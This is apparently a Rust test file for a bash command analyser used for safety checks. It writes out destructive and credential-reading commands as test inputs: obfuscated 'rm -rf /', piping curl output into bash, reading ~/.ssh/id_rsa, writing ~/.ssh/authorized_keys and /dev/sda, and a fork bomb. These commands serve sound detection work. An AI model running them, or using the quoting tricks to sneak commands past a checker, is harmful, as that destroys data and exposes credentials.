//! Tests of the walk: simple commands, words, splitting, substitutions, compound statements,
//! redirections, here-documents, declarations, paths, failures, and where tree-sitter-bash
//! reads differently from bash.

use super::driver::analyse;
use super::parse::{parse, FastKind};
use super::words::literal_word;
use super::{Analysis, Origin, Redirect, SimpleCommand, Word, MAX_COMMAND_LEN};
use crate::shell::RedirectOp;
use crate::shell::View;

fn ok(command: &str) -> Vec<SimpleCommand> {
    let analysis = analyse(command);
    assert_eq!(analysis.failure, None, "unexpected failure for {command:?}");
    analysis.commands
}

fn argvs(command: &str) -> Vec<Vec<String>> {
    ok(command)
        .iter()
        .map(|c| c.argv.iter().map(|w| w.value.clone()).collect())
        .collect()
}

fn failure(command: &str) -> String {
    let analysis = analyse(command);
    assert!(analysis.commands.is_empty(), "{command:?}: {analysis:?}");
    analysis
        .failure
        .unwrap_or_else(|| panic!("expected a failure for {command:?}"))
}

fn only(command: &str) -> SimpleCommand {
    let mut commands = ok(command);
    assert_eq!(commands.len(), 1, "{command:?}: {commands:?}");
    commands.remove(0)
}

fn find<'a>(commands: &'a [SimpleCommand], program: &str) -> &'a SimpleCommand {
    commands
        .iter()
        .find(|c| c.program() == program)
        .unwrap_or_else(|| panic!("no {program} in {commands:?}"))
}

fn v(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| w.to_string()).collect()
}

fn word(value: &str, dynamic: bool, path: Option<&str>) -> Word {
    Word {
        value: value.to_string(),
        dynamic,
        path: path.map(str::to_string),
    }
}

/// A command's redirections with here-documents' bodies left out (compared on their own).
fn shapes(redirects: &[Redirect]) -> Vec<Redirect> {
    redirects
        .iter()
        .map(|r| Redirect {
            body: None,
            ..r.clone()
        })
        .collect()
}

fn redirect(op: &str, fd: Option<u32>, target: &str) -> Redirect {
    Redirect {
        op: RedirectOp::parse(op).expect("a known operator"),
        fd,
        target: literal_word(target.to_string()),
        body: None,
    }
}

fn run_with_small_stack(f: impl FnOnce() + Send + 'static) {
    std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(f)
        .expect("spawn")
        .join()
        .expect("the analysis overflowed or panicked");
}

// ----- simple commands and words -----

#[test]
fn simple_command_gives_program_arguments_span_and_top_level_origin() {
    let c = only("git status --short");
    assert_eq!(c.text(View::Literal), "git status --short");
    assert_eq!(c.origin, Origin::TopLevel);
    assert!(!c.piped && !c.self_call);
    assert_eq!(c.span, (0, 18));
    assert_eq!(c.argv[0], word("git", false, Some("git")));
}

#[test]
fn backslash_escaped_program_is_unescaped() {
    assert_eq!(argvs(r"\rm -rf /"), vec![v(&["rm", "-rf", "/"])]);
    assert_eq!(argvs(r"r\m -r\f /"), vec![v(&["rm", "-rf", "/"])]);
}

#[test]
fn empty_quotes_inside_a_word_are_removed() {
    assert_eq!(argvs(r#"r""m -rf /"#), vec![v(&["rm", "-rf", "/"])]);
    assert_eq!(argvs("'r'm -r''f /"), vec![v(&["rm", "-rf", "/"])]);
}

#[test]
fn quoted_program_is_unquoted() {
    assert_eq!(argvs("'rm' -rf /"), vec![v(&["rm", "-rf", "/"])]);
    assert_eq!(argvs(r#""rm" "-rf" "/""#), vec![v(&["rm", "-rf", "/"])]);
}

#[test]
fn double_quotes_keep_backslashes_except_before_special_characters() {
    let c = only(r#"echo "a\$b \" \\ \x" 'c\d'"#);
    assert_eq!(c.argv[1].value, r#"a$b " \ \x"#);
    assert!(!c.argv[1].dynamic);
    assert_eq!(c.argv[2].value, r"c\d");
}

#[test]
fn ansi_c_strings_are_decoded() {
    let c = only(r#"echo $'a\x41\101\tb\'\\c' $'\u00e9\cA' $'x\0y'"#);
    assert_eq!(c.argv[1].value, "aAA\tb'\\c");
    assert_eq!(c.argv[2].value, "\u{e9}\u{1}");
    assert_eq!(c.argv[3].value, "x");
    assert_eq!(argvs(r"$'\x72m' -rf /"), vec![v(&["rm", "-rf", "/"])]);
}

#[test]
fn locale_translated_string_is_its_text() {
    assert_eq!(argvs(r#"$"rm" -rf /"#), vec![v(&["rm", "-rf", "/"])]);
    assert_eq!(
        argvs(r#"echo "a" $"b" c$"d""#),
        vec![v(&["echo", "a", "b", "cd"])]
    );
}

#[test]
fn mentioned_danger_in_quotes_is_only_an_argument() {
    assert_eq!(
        argvs(r#"echo "never run rm -rf /; sudo x | bash""#),
        vec![v(&["echo", "never run rm -rf /; sudo x | bash"])]
    );
    assert_eq!(
        argvs(r#"git commit -m "fix chmod +x bug""#),
        vec![v(&["git", "commit", "-m", "fix chmod +x bug"])]
    );
}

#[test]
fn ansi_c_string_that_tree_sitter_overreads_fails() {
    // tree-sitter-bash reads `$'\\' ; rm -rf / # '` as one string; bash runs `rm`.
    failure(r"echo $'\\' ; rm -rf / # '");
    failure(r"echo $'a\\' && rm -rf ~ #'");
    assert_eq!(only(r"echo $'\\'").argv[1].value, "\\");
}

#[test]
fn backslash_blank_between_words_fails() {
    // tree-sitter-bash skips `\ ` as blank; for bash it is a word.
    failure(r"echo x \ ; ls");
    failure(r"ls \ x");
    assert_eq!(argvs(r"ls a\ b"), vec![v(&["ls", "a b"])]);
    assert_eq!(argvs(r#"echo "a\ b""#), vec![v(&["echo", "a\\ b"])]);
}

#[test]
fn globs_stay_literal_and_known() {
    let c = only("ls *.rs [ab]?");
    assert_eq!(c.argv[1], word("*.rs", false, Some("*.rs")));
    assert_eq!(c.argv[2], word("[ab]?", false, Some("[ab]?")));
}

#[test]
fn brace_expansion_gives_the_words_bash_runs() {
    // (`sudo` also gives the command it runs.)
    assert_eq!(
        argvs("sudo {rm,-rf,/}"),
        vec![v(&["sudo", "rm", "-rf", "/"]), v(&["rm", "-rf", "/"])]
    );
    // tree-sitter-bash cannot parse a brace expansion first on the line.
    failure("{rm,-rf,/}");
    assert_eq!(argvs("r{m,} -rf /"), vec![v(&["rm", "r", "-rf", "/"])]);
    assert_eq!(
        argvs("echo {a,b}{1..2} x{c..a} {01..3} {1..7..3} a{,}b"),
        vec![v(&[
            "echo", "a1", "a2", "b1", "b2", "xc", "xb", "xa", "01", "02", "03", "1", "4", "7",
            "ab", "ab"
        ])]
    );
    assert_eq!(
        argvs("echo {a,{b,c}d} {a,\"b,c\"} x{a}y {a,b {} {!..#} {,}"),
        vec![v(&[
            "echo", "a", "bd", "cd", "a", "b,c", "x{a}y", "{a,b", "{}", "{!..#}"
        ])]
    );
    let c = only("cat ~/.ssh/{id_rsa,config} $HOME/{.aws,x}");
    let paths: Vec<Option<&str>> = c.argv[1..].iter().map(|w| w.path.as_deref()).collect();
    assert_eq!(
        paths,
        vec![
            Some("~/.ssh/id_rsa"),
            Some("~/.ssh/config"),
            Some("~/.aws"),
            Some("~/x")
        ]
    );
}

#[test]
fn brace_groups_are_matched_as_bash_matches_them() {
    // A closing brace with no comma before it is text; a word-initial `{}` is no group.
    assert_eq!(
        argvs(r#"echo {""},} x{a}{b,c} {} a{},b"#),
        vec![v(&["echo", "}", "x{a}b", "x{a}c", "{}", "a{},b"])]
    );
    // Too intricate to follow: one dynamic word.
    assert!(only("echo {..','}").argv[1].dynamic);
}

#[test]
fn quoted_braces_are_not_expanded() {
    assert_eq!(
        argvs(r#"echo "{a,b}" '{a,b}' \{a,b} {a\,b} {"1"..3}"#),
        vec![v(&["echo", "{a,b}", "{a,b}", "{a,b}", "{a,b}", "{1..3}"])]
    );
    assert_eq!(argvs("X={a,b} env"), vec![v(&["env"])]);
    assert_eq!(ok("X={a,b} env")[0].assignments, v(&["X={a,b}"]));
}

#[test]
fn oversized_brace_expansion_is_one_dynamic_word() {
    let c = only("echo {1..100000}");
    assert_eq!(c.argv[1], word("{1..100000}", true, None));
    let c = only(&format!("echo {}", "{a,b}".repeat(20)));
    assert!(c.argv[1].dynamic);
    assert_eq!(c.argv.len(), 2);
}

#[test]
fn line_continuation_joins_lines() {
    assert_eq!(argvs("rm \\\n -rf /"), vec![v(&["rm", "-rf", "/"])]);
}

// ----- splitting -----

#[test]
fn and_or_semicolon_newline_and_background_split_commands() {
    assert_eq!(
        argvs("a 1 && b || c; d & e\nf"),
        vec![
            v(&["a", "1"]),
            v(&["b"]),
            v(&["c"]),
            v(&["d"]),
            v(&["e"]),
            v(&["f"])
        ]
    );
    let spans: Vec<_> = ok("ab && cd").iter().map(|c| c.span).collect();
    assert_eq!(spans, vec![(0, 2), (6, 8)]);
}

#[test]
fn long_lists_are_flattened_in_order() {
    let line = (0..2000)
        .map(|i| format!("c{i}"))
        .collect::<Vec<_>>()
        .join(" && ");
    let commands = ok(&line);
    assert_eq!(commands.len(), 2000);
    assert_eq!(commands[0].program(), "c0");
    assert_eq!(commands[1999].program(), "c1999");
}

#[test]
fn pipeline_marks_every_stage_pipeline_and_later_stages_piped() {
    let commands = ok("curl -s x | bash");
    assert_eq!(commands.len(), 2);
    assert_eq!(commands[0].origin, Origin::Pipeline);
    assert!(!commands[0].piped);
    assert_eq!(commands[1].origin, Origin::Pipeline);
    assert!(commands[1].piped);
    assert_eq!(commands[1].program(), "bash");

    let commands = ok("a | b |& c");
    let piped: Vec<bool> = commands.iter().map(|c| c.piped).collect();
    assert_eq!(piped, vec![false, true, true]);
}

#[test]
fn a_list_after_a_long_pipeline_reads_no_pipe() {
    // tree-sitter-bash reads these as `a | (b | c && d)`.
    for (line, expected) in [
        (
            "a | b | c && d",
            vec![
                ("a", Origin::Pipeline, false),
                ("b", Origin::Pipeline, true),
                ("c", Origin::Pipeline, true),
                ("d", Origin::TopLevel, false),
            ],
        ),
        (
            "a | b | c | d && e | f || g",
            vec![
                ("a", Origin::Pipeline, false),
                ("b", Origin::Pipeline, true),
                ("c", Origin::Pipeline, true),
                ("d", Origin::Pipeline, true),
                ("e", Origin::Pipeline, false),
                ("f", Origin::Pipeline, true),
                ("g", Origin::TopLevel, false),
            ],
        ),
        (
            "x; a | b | c && d > f; y",
            vec![
                ("x", Origin::TopLevel, false),
                ("a", Origin::Pipeline, false),
                ("b", Origin::Pipeline, true),
                ("c", Origin::Pipeline, true),
                ("d", Origin::TopLevel, false),
                ("y", Origin::TopLevel, false),
            ],
        ),
    ] {
        let got: Vec<(String, Origin, bool)> = ok(line)
            .iter()
            .map(|c| (c.text(View::Literal), c.origin, c.piped))
            .collect();
        let expected: Vec<(String, Origin, bool)> = expected
            .into_iter()
            .map(|(t, o, p)| (t.to_string(), o, p))
            .collect();
        assert_eq!(got, expected, "{line:?}");
    }
    let commands = ok("a | b | c && d > f");
    assert!(commands[..3].iter().all(|c| c.redirects.is_empty()));
    assert_eq!(commands[3].redirects[0].target.value, "f");
}

#[test]
fn piped_stage_that_is_a_group_pipes_its_commands() {
    let commands = ok("curl x | { read a; sh; }");
    assert!(!commands[0].piped);
    assert!(commands[1..]
        .iter()
        .all(|c| c.piped && c.origin == Origin::Group));
}

#[test]
fn negated_command_is_extracted() {
    let c = only("! grep -q x f");
    assert_eq!(c.program(), "grep");
}

// ----- substitutions -----

#[test]
fn command_substitution_in_argument_is_extracted_and_makes_the_word_dynamic() {
    let commands = ok("echo $(rm -rf /) done");
    assert_eq!(commands.len(), 2);
    assert_eq!(commands[0].argv[1], word("$(rm -rf /)", true, None));
    assert_eq!(commands[0].argv[2].value, "done");
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    assert_eq!(commands[1].text(View::Literal), "rm -rf /");
    assert_eq!(commands[1].span, (7, 15));
}

#[test]
fn backticks_in_argument_are_extracted() {
    let commands = ok("echo `rm -rf /` \"`id`\"");
    assert_eq!(argvs("echo `rm -rf /` \"`id`\"")[1], v(&["rm", "-rf", "/"]));
    assert!(commands[0].argv[1].dynamic && commands[0].argv[2].dynamic);
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    assert_eq!(commands[2].program(), "id");
}

#[test]
fn nested_backticks_are_unescaped_and_extracted() {
    let commands = ok(r"echo `echo \`rm -rf /\``");
    let rm = find(&commands, "rm");
    assert_eq!(rm.text(View::Literal), "rm -rf /");
    assert_eq!(rm.origin, Origin::CommandSubstitution);
}

#[test]
fn substitution_inside_a_pipeline_stage_has_substitution_origin() {
    let commands = ok("cat f | grep $(whoami)");
    assert_eq!(
        find(&commands, "whoami").origin,
        Origin::CommandSubstitution
    );
    assert_eq!(find(&commands, "grep").origin, Origin::Pipeline);
}

#[test]
fn substitution_in_program_position_makes_the_program_computed() {
    let commands = ok("$(echo rm) -rf /");
    assert!(commands[0].computed_program());
    assert_eq!(commands[1].text(View::Literal), "echo rm");
}

#[test]
fn process_substitutions_are_extracted() {
    let commands = ok("diff <(ls a) >(wc -l)");
    assert_eq!(commands.len(), 3);
    assert_eq!(commands[0].argv[1], word("<(ls a)", true, None));
    assert_eq!(commands[1].origin, Origin::ProcessSubstitution);
    assert_eq!(commands[1].text(View::Literal), "ls a");
    assert_eq!(commands[2].origin, Origin::ProcessSubstitution);
    assert_eq!(commands[2].text(View::Literal), "wc -l");
}

#[test]
fn substitutions_inside_expansions_and_arithmetic_are_extracted() {
    let commands = ok(r#"echo ${X:-$(rm -rf /)} $(( $(a) + b[$(c)] )) "${Y/$(d)/e}""#);
    let programs: Vec<&str> = commands.iter().map(|c| c.program()).collect();
    assert_eq!(programs, vec!["echo", "rm", "a", "c", "d"]);
    assert!(commands[0].argv[1..].iter().all(|w| w.dynamic));
    assert!(commands[1..]
        .iter()
        .all(|c| c.origin == Origin::CommandSubstitution));
}

#[test]
fn substitution_in_redirect_target_is_extracted() {
    let commands = ok("echo hi > $(mktemp)");
    assert_eq!(commands[0].redirects[0].target.value, "$(mktemp)");
    assert!(commands[0].redirects[0].target.dynamic);
    assert_eq!(commands[1].program(), "mktemp");
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
}

#[test]
fn file_reading_substitution_is_a_command_with_only_a_redirect() {
    let commands = ok("echo $(< ~/.ssh/id_rsa)");
    assert_eq!(commands.len(), 2);
    assert!(commands[1].argv.is_empty());
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    assert_eq!(
        commands[1].redirects,
        vec![redirect("<", None, "~/.ssh/id_rsa")]
    );
}

// ----- compound statements -----

#[test]
fn subshell_redirect_applies_to_every_command() {
    let commands = ok("(a; b) 2>/dev/null");
    assert_eq!(commands.len(), 2);
    for c in &commands {
        assert_eq!(c.origin, Origin::Subshell);
        assert_eq!(c.redirects, vec![redirect(">", Some(2), "/dev/null")]);
    }
}

#[test]
fn group_redirect_applies_to_every_command_after_its_own() {
    let commands = ok("{ a > x; b; } > f");
    assert_eq!(commands.len(), 2);
    assert!(commands.iter().all(|c| c.origin == Origin::Group));
    assert_eq!(
        commands[0].redirects,
        vec![redirect(">", None, "x"), redirect(">", None, "f")]
    );
    assert_eq!(commands[1].redirects, vec![redirect(">", None, "f")]);
}

#[test]
fn if_elif_else_conditions_and_bodies_are_compound() {
    let commands = ok("if a; then b; elif c; then d; else e; fi");
    let programs: Vec<&str> = commands.iter().map(|c| c.program()).collect();
    assert_eq!(programs, vec!["a", "b", "c", "d", "e"]);
    assert!(commands.iter().all(|c| c.origin == Origin::Compound));
}

#[test]
fn loops_and_case_bodies_are_compound_and_their_words_expanded() {
    let commands = ok(
        "for x in $(ls) y; do rm \"$x\"; done\nwhile a; do b; done\nuntil c; do d; done\n\
         case $(e) in f) g;; *) h;; esac\nselect s in t; do u; done",
    );
    let programs: Vec<&str> = commands.iter().map(|c| c.program()).collect();
    // A loop's variable is given its words by a command of assignments, first.
    assert_eq!(
        programs,
        vec!["", "ls", "rm", "a", "b", "c", "d", "e", "g", "h", "", "u"]
    );
    assert_eq!(commands[0].assignments, ["x=$(ls)", "x=y"]);
    assert_eq!(commands[0].origin, Origin::Compound);
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    assert_eq!(commands[2].origin, Origin::Compound);
    assert!(commands[2].argv[1].dynamic);
    assert_eq!(commands[7].origin, Origin::CommandSubstitution);
    assert_eq!(commands[10].assignments, ["s=t"]);
}

#[test]
fn c_style_for_header_substitutions_and_body_are_extracted() {
    let commands = ok("for ((i=$(a); i<3; i++)); do b; done");
    // The initial assignments first, as the loop's header.
    assert_eq!(commands[0].assignments, ["i=$(a)"]);
    assert_eq!(commands[1].program(), "a");
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    assert_eq!(commands[2].program(), "b");
    assert_eq!(commands[2].origin, Origin::Compound);
}

#[test]
fn function_body_commands_have_function_origin_and_self_calls_are_flagged() {
    let commands = ok("f() { g; f; }; f");
    assert_eq!(commands.len(), 3);
    assert_eq!(commands[0].origin, Origin::Function);
    assert!(!commands[0].self_call);
    assert_eq!(commands[1].origin, Origin::Function);
    assert!(commands[1].self_call);
    assert_eq!(commands[2].origin, Origin::TopLevel);
    assert!(!commands[2].self_call);
    let commands = ok("function g { ( g ); }");
    assert!(commands[0].self_call);
    assert_eq!(commands[0].origin, Origin::Subshell);
}

#[test]
fn fork_bomb_parses_and_its_inner_calls_are_self_calls() {
    let commands = ok(":(){ :|:& };:");
    assert_eq!(commands.len(), 3);
    assert!(commands[0].self_call && commands[1].self_call);
    assert_eq!(commands[0].origin, Origin::Pipeline);
    assert!(commands[1].piped);
    assert_eq!(commands[2].program(), ":");
    assert!(!commands[2].self_call);
}

#[test]
fn function_redirect_applies_to_its_body() {
    let commands = ok("f() { a; } > out");
    assert_eq!(commands[0].redirects, vec![redirect(">", None, "out")]);
}

#[test]
fn test_commands_are_commands_with_their_substitutions_extracted() {
    let commands = ok(r#"[ -f "$(a)" ] && [[ $(b) == c* ]] && (( d++ ))"#);
    let programs: Vec<&str> = commands.iter().map(|c| c.program()).collect();
    assert_eq!(programs, vec!["[", "a", "[[", "b", "(("]);
    assert_eq!(commands[0].text(View::Literal), "[ -f $(a) ]");
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    assert_eq!(commands[2].text(View::Literal), "[[ $(b) == c* ]]");
    assert_eq!(commands[4].text(View::Literal), "(( d ++ ))");
}

#[test]
fn a_word_the_parser_splits_inside_a_test_is_one_word() {
    let c = only("[ -f ~/.ssh/id_rsa ]");
    let words: Vec<&str> = c.argv.iter().map(|w| w.value.as_str()).collect();
    assert_eq!(words, ["[", "-f", "~/.ssh/id_rsa", "]"]);
    assert_eq!(c.argv[2].path.as_deref(), Some("~/.ssh/id_rsa"));
    let c = only("[[ -d ~/src && $x == a* ]]");
    let words: Vec<&str> = c.argv.iter().map(|w| w.value.as_str()).collect();
    assert_eq!(words, ["[[", "-d", "~/src", "&&", "$x", "==", "a*", "]]"]);
}

#[test]
fn angle_brackets_in_single_bracket_test_are_refused() {
    // bash reads `>` inside `[ … ]` as a redirection; tree-sitter as a comparison.
    failure("[ a > ~/.ssh/authorized_keys ]");
    failure("[ a < b ]");
    failure("[ > f ]");
    assert_eq!(ok("[[ a > b ]]").len(), 1);
}

// ----- redirections -----

#[test]
fn redirects_record_operator_descriptor_and_target() {
    let c = only("cmd 2>/dev/null &> out >> log 3<&0 >&2 >| g &>> h < in");
    assert_eq!(
        c.redirects,
        vec![
            redirect(">", Some(2), "/dev/null"),
            redirect("&>", None, "out"),
            redirect(">>", None, "log"),
            redirect("<&", Some(3), "0"),
            redirect(">&", None, "2"),
            redirect(">|", None, "g"),
            redirect("&>>", None, "h"),
            redirect("<", None, "in"),
        ]
    );
    assert!(c.redirects[0].writes() && !c.redirects[7].writes());
}

#[test]
fn redirect_before_the_program_belongs_to_the_command() {
    let c = only("2>/dev/null rm -rf /");
    assert_eq!(c.text(View::Literal), "rm -rf /");
    assert_eq!(c.redirects, vec![redirect(">", Some(2), "/dev/null")]);
}

#[test]
fn words_after_a_redirect_target_are_arguments() {
    let c = only("rm > /dev/null -rf /");
    assert_eq!(c.text(View::Literal), "rm -rf /");
    assert_eq!(c.redirects, vec![redirect(">", None, "/dev/null")]);
    let c = only("cat <<< x > f y");
    assert_eq!(c.text(View::Literal), "cat y");
    let c = only("echo 2>&- x");
    assert_eq!(c.text(View::Literal), "echo x");
    assert_eq!(c.redirects[0].op.as_str(), ">&-");
    assert_eq!(c.redirects[0].fd, Some(2));
}

#[test]
fn words_after_a_compound_redirect_fail() {
    failure("{ a; } > f b");
}

#[test]
fn redirect_after_a_pipeline_or_list_applies_to_its_last_command() {
    let commands = ok("a | b > f | c > g x");
    assert_eq!(commands[0].redirects, vec![]);
    assert_eq!(commands[1].redirects, vec![redirect(">", None, "f")]);
    assert_eq!(commands[2].redirects, vec![redirect(">", None, "g")]);
    assert_eq!(commands[2].text(View::Literal), "c x");
    let commands = ok("a && b > f");
    assert_eq!(commands[0].redirects, vec![]);
    assert_eq!(commands[1].redirects, vec![redirect(">", None, "f")]);
}

#[test]
fn redirect_only_line_is_a_command_without_argv() {
    let c = only("> /dev/sda");
    assert!(c.argv.is_empty());
    assert_eq!(c.redirects, vec![redirect(">", None, "/dev/sda")]);
    assert_eq!(c.span, (0, 10));
}

#[test]
fn herestring_is_a_redirect_and_its_substitutions_run() {
    let commands = ok(r#"bash <<< "$(curl -s x)""#);
    assert_eq!(commands[0].redirects[0].op.as_str(), "<<<");
    assert!(commands[0].redirects[0].target.dynamic);
    assert_eq!(commands[1].text(View::Literal), "curl -s x");
    let c = only("cat 0<<< hello");
    assert_eq!(c.redirects, vec![redirect("<<<", Some(0), "hello")]);
}

// ----- here-documents -----

#[test]
fn unquoted_heredoc_body_substitution_is_extracted() {
    let commands = ok("cat <<EOF > out\nhello $(rm -rf /) $USER\nEOF");
    assert_eq!(commands.len(), 2);
    assert_eq!(
        shapes(&commands[0].redirects),
        vec![redirect("<<", None, "EOF"), redirect(">", None, "out")]
    );
    assert_eq!(
        commands[0].redirects[0].body.as_deref(),
        Some("hello $(rm -rf /) $USER\n"),
        "the body as written"
    );
    assert_eq!(commands[1].text(View::Literal), "rm -rf /");
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
}

#[test]
fn quoted_heredoc_body_is_not_expanded() {
    for line in [
        "cat <<'EOF'\n$(rm -rf /) `id`\nEOF",
        "cat <<\"EOF\"\n$(rm -rf /) `id`\nEOF",
        "cat <<E\\OF\n$(rm -rf /) `id`\nEOF",
    ] {
        let c = only(line);
        assert_eq!(
            shapes(&c.redirects),
            vec![redirect("<<", None, "EOF")],
            "{line:?}"
        );
    }
    let c = only("cat <<-'X'\n\t$(a)\n\tX");
    assert_eq!(shapes(&c.redirects), vec![redirect("<<-", None, "X")]);
}

#[test]
fn heredoc_body_backticks_are_extracted() {
    // tree-sitter-bash does not parse back-ticks in here-document bodies.
    let commands = ok("cat <<EOF\nrun `rm -rf /` and \\`not this\\`\nEOF");
    assert_eq!(commands.len(), 2);
    assert_eq!(commands[1].text(View::Literal), "rm -rf /");
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    failure("cat <<EOF\nunclosed ` here\nEOF");
}

#[test]
fn heredoc_piped_to_a_shell_marks_the_shell_piped() {
    let commands = ok("cat <<EOF | sh && echo done\nrm -rf /\nEOF");
    assert_eq!(commands.len(), 3);
    assert_eq!(commands[0].program(), "cat");
    assert_eq!(commands[0].origin, Origin::Pipeline);
    assert!(!commands[0].piped);
    assert_eq!(commands[1].program(), "sh");
    assert!(commands[1].piped);
    assert_eq!(commands[2].program(), "echo");
    assert_eq!(commands[2].origin, Origin::TopLevel);
    assert!(!commands[2].piped);
}

#[test]
fn heredoc_followed_by_a_list_or_arguments() {
    let commands = ok("cat <<EOF && rm x\nbody\nEOF");
    assert_eq!(commands[0].text(View::Literal), "cat");
    assert_eq!(commands[1].text(View::Literal), "rm x");
    assert!(commands[1].redirects.is_empty());
    let c = only("cat <<EOF file\nbody\nEOF");
    assert_eq!(c.text(View::Literal), "cat file");
    // Both at once is valid bash, but tree-sitter-bash cannot parse it.
    failure("cat <<EOF file && rm x\nbody\nEOF");
}

// ----- assignments and declarations -----

#[test]
fn prefix_assignments_are_recorded_quotes_removed() {
    let c = only(r#"FOO=1 BAR="a b" git status"#);
    assert_eq!(c.assignments, v(&["FOO=1", "BAR=a b"]));
    assert_eq!(c.text(View::Literal), "FOO=1 BAR=a b git status");
    assert_eq!(c.text(View::Canonical), "git status");
}

#[test]
fn assignment_only_command_keeps_its_substitution() {
    let commands = ok("X=$(rm -rf /)");
    assert_eq!(commands.len(), 2);
    assert!(commands[0].argv.is_empty());
    assert_eq!(commands[0].assignments, v(&["X=$(rm -rf /)"]));
    assert_eq!(commands[1].text(View::Literal), "rm -rf /");
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
    let c = only("A=1 B+=x C= D=(1 'two')");
    assert_eq!(c.assignments, v(&["A=1", "B+=x", "C=", "D=(1 two)"]));
}

#[test]
fn declaration_commands_are_simple_commands() {
    let commands = ok(
        "export X=1 Y=\"$(id)\" Z; local -r W; declare -a A; readonly R; typeset T; unset -f foo V",
    );
    assert_eq!(
        commands
            .iter()
            .map(|c| c.text(View::Literal))
            .collect::<Vec<_>>(),
        v(&[
            "export X=1 Y=$(id) Z",
            "id",
            "local -r W",
            "declare -a A",
            "readonly R",
            "typeset T",
            "unset -f foo V",
        ])
    );
    assert!(commands[0].argv[2].dynamic);
    assert_eq!(commands[1].origin, Origin::CommandSubstitution);
}

// ----- paths -----

#[test]
fn home_and_tilde_are_read_as_home_paths() {
    let c = only(r#"cat "$HOME/.ssh/id_rsa" ${HOME}/.aws ~/.ssh $HOME ~"#);
    assert_eq!(
        c.argv[1],
        word("$HOME/.ssh/id_rsa", false, Some("~/.ssh/id_rsa"))
    );
    assert_eq!(c.argv[2], word("${HOME}/.aws", false, Some("~/.aws")));
    assert_eq!(c.argv[3], word("~/.ssh", false, Some("~/.ssh")));
    assert_eq!(c.argv[4], word("$HOME", false, Some("~")));
    assert_eq!(c.argv[5], word("~", false, Some("~")));
    let c = only("cat > ~/.ssh/authorized_keys");
    assert_eq!(
        c.redirects[0].target.path.as_deref(),
        Some("~/.ssh/authorized_keys")
    );
}

#[test]
fn quoted_tilde_is_a_file_named_tilde() {
    let c = only(r#"cat '~/.ssh' "~/x" \~/y ""~/z"#);
    assert_eq!(c.argv[1], word("~/.ssh", false, Some("./~/.ssh")));
    assert_eq!(c.argv[2], word("~/x", false, Some("./~/x")));
    assert_eq!(c.argv[3], word("~/y", false, Some("./~/y")));
    assert_eq!(c.argv[4], word("~/z", false, Some("./~/z")));
}

#[test]
fn unknown_variables_make_words_dynamic_without_path() {
    let c = only(r#"cat $X/a "${Y}" /x$HOME ${HOME}x ${HOME:-/r} $HOME/$Z '$HOME'"#);
    assert_eq!(c.argv[1], word("$X/a", true, None));
    assert_eq!(c.argv[2], word("${Y}", true, None));
    assert_eq!(c.argv[3], word("/x$HOME", true, None));
    assert_eq!(c.argv[4], word("${HOME}x", true, None));
    // Computed, but only ever the home folder: its path is known.
    assert_eq!(c.argv[5], word("${HOME:-/r}", true, Some("~")));
    assert_eq!(c.argv[6], word("$HOME/$Z", true, None));
    assert_eq!(c.argv[7], word("$HOME", false, Some("$HOME")));
}

#[test]
fn computed_program_is_dynamic() {
    let c = only("$X -rf /");
    assert!(c.computed_program());
    assert_eq!(c.argv[0], word("$X", true, None));
    assert!(!only("$HOME/bin/tool").computed_program());
}

// ----- failures -----

#[test]
fn syntax_errors_fail() {
    for line in [
        "echo \"unterminated",
        "if then fi",
        ")(",
        "echo $(",
        "a &&",
        "case x in",
        "cmd <> file",
        "echo (ls)",
        "x=1 > f",
    ] {
        assert_eq!(failure(line), "the command could not be parsed", "{line:?}");
    }
}

#[test]
fn empty_whitespace_and_comment_only_lines_give_nothing() {
    for line in ["", "   ", "\n\t\n", "# just a comment", "  # a\n# b\n"] {
        assert_eq!(analyse(line), Analysis::default(), "{line:?}");
    }
    assert_eq!(argvs("ls # trailing comment"), vec![v(&["ls"])]);
}

#[test]
fn overlong_input_fails() {
    let line = format!("echo {}", "a".repeat(100 * 1024));
    assert_eq!(failure(&line), "the command is longer than 65536 bytes");
    let at_limit = format!("echo {}", "a".repeat(MAX_COMMAND_LEN - 5));
    assert_eq!(ok(&at_limit).len(), 1);
}

#[test]
fn nesting_within_the_limit_is_analysed() {
    let line = format!("{}rm -rf /{}", "echo $(".repeat(10), ")".repeat(10));
    let commands = ok(&line);
    assert_eq!(commands.len(), 11);
    assert_eq!(commands[10].text(View::Literal), "rm -rf /");
}

#[test]
fn deep_nesting_fails_without_stack_overflow() {
    run_with_small_stack(|| {
        let deep = "the command nests deeper than 16 levels";
        let n = 5000;
        let lines = [
            format!("{}x{}", "$(".repeat(n), ")".repeat(n)),
            format!("{}x{}", "( ".repeat(n), " )".repeat(n)),
            format!("{}x{}", "`".repeat(2), "`".repeat(0)),
            format!("{}x{}", "{ ".repeat(n), "; }".repeat(n)),
            format!("echo {}x{}", "${X:-".repeat(n), "}".repeat(n)),
            format!("echo {}x{}", "\"$(echo ".repeat(n), ")\"".repeat(n)),
            format!("{}x{}", "if a; then ".repeat(n / 2), "; fi".repeat(n / 2)),
            format!("{}x{}", "f() { ".repeat(n), "; }".repeat(n)),
        ];
        for (i, line) in lines.iter().enumerate() {
            let analysis = analyse(line);
            assert!(analysis.commands.is_empty() || i == 2, "{i}");
            if i != 2 {
                assert_eq!(analysis.failure.as_deref(), Some(deep), "{i}");
            }
        }
        // Unbalanced deep input is a parse failure.
        assert!(analyse(&"$(".repeat(n)).failure.is_some());
        assert!(analyse(&"(".repeat(n)).failure.is_some());
        // Deep arithmetic and long flat structures are fine.
        assert!(
            analyse(&format!("(( {}1{} ))", "(".repeat(n), ")".repeat(n)))
                .failure
                .is_none()
        );
        assert!(analyse(&format!("[[ {}a ]]", "a && ".repeat(n)))
            .failure
            .is_none());
    });
}

#[test]
fn deeply_nested_backticks_fail() {
    run_with_small_stack(|| {
        let mut line = String::from("x");
        for _ in 0..20 {
            line = format!("echo `{}`", line.replace('\\', "\\\\").replace('`', "\\`"));
            if line.len() > MAX_COMMAND_LEN {
                break;
            }
        }
